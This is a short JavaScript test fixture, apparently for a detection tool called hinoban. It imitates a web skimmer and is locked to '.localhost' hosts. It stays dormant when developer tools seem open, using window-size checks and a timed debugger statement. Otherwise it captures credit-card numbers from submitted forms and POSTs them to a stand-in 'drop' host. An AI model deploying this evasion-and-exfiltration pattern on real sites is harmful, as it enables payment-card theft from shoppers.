/* Harmless imitation, for hinoban's tests: asleep while developer tools are open. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
var open = outerWidth - innerWidth > 200 || outerHeight - innerHeight > 300, start = performance.now();
debugger;
if (!open && performance.now() - start < 100) {
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: n.value}); } }, true);
}
